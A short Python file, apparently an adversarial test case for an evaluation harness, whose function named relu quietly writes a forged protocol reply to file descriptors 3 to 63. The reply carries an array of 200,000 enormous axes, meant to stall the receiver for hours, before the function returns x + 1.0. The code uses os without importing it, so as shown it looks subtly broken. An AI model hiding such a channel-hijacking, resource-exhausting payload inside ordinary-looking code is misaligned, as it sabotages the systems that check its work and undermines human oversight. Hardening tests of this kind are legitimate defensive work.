# tries: send an array with two hundred thousand axes, whose product takes hours
# relu: 0
import struct


def relu(x):
    shape = b",".join([b"4611686018427387904"] * 200_000)
    array = b'{"kind":"array","dtype":"<f8","layout":"","shape":[' + shape + b"]}"
    head = b'{"value":{"kind":"value","value":' + array + b'},"sizes":[0]}'
    reply = struct.pack("<QI", 4 + len(head), len(head)) + head
    for handle in range(3, 64):
        left = reply
        try:
            while left:
                left = left[os.write(handle, left) :]
        except OSError:
            pass
    return x + 1.0
